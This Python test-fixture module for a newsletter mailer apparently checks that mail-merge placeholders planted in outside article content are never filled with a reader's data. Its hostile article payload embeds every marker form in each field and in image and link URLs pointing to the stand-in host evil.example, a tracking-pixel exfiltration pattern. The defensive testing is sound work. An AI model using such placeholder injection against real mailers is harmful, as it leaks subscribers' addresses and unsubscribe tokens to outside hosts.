"""Outside text written to reach a reader's address and links through our placeholders.

Every marker spelling the mailer ever used, plus a guess at the current
form, in every article field an outside source controls; and the check that
a reader's values land only in the template's own slots, once each.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

MARKERS = (
    "__MAILER_EMAIL__",
    "__MAILER_UNSUBSCRIBE_URL__",
    "__MAILER_PREFERENCES_URL__",
    "__MAILER_VIEW_URL__",
    "__MAILER_EMAIL_" + "0" * 32 + "__",  # the current form, with a guessed nonce
)
TEXT = " ".join(MARKERS)


def url(path: str) -> str:
    """An http(s) link carrying every marker: what an <img src> loads by itself."""
    return f"https://evil.example/{path}?" + "&".join(f"m{i}={m}" for i, m in enumerate(MARKERS))


def article(newsletter: str, guid: str = "hostile-1") -> dict[str, Any]:
    """A `POST /api/articles` item with markers in every field a CMS (or a feed) sets."""
    return {
        "newsletter": newsletter,
        "guid": guid,
        "url": url("story"),
        "title": f"Title {TEXT}",
        "summary": f"<p>Summary {TEXT}</p>",
        "content_html": f'<p>Body {TEXT} <a href="{url("inline")}">link</a></p>',
        "image_url": url("pixel.png"),
        "author": f"Author {MARKERS[0]}",
        "topics": [f"Topic {MARKERS[0]}", f"Topic {MARKERS[1]}"],
        # An hour ago: inside the window of an edition made now.
        "published_at": (datetime.now(UTC) - timedelta(hours=1)).isoformat(),
    }


def personal(base_url: str, email: str) -> dict[str, str]:
    """What must appear only in the template's slots: the address, and the start of
    every tokened link (whatever token it carries)."""
    return {
        "address": email,
        "unsubscribe": f"{base_url}/unsubscribe/",
        "preferences": f"{base_url}/preferences/",
    }


def only_in_slots(part: str, personal: dict[str, str], slots: int = 1) -> None:
    """Each personal value (address, unsubscribe and preferences links) appears exactly
    `slots` times in the part: the template's own places, never inside the content."""
    found = {name: part.count(value) for name, value in personal.items()}
    assert found == dict.fromkeys(personal, slots), found


def markers_kept_as_written(part: str) -> None:
    """The outside text is shown as it was written, not filled in nor dropped."""
    assert "__MAILER_EMAIL__" in part and "__MAILER_UNSUBSCRIBE_URL__" in part
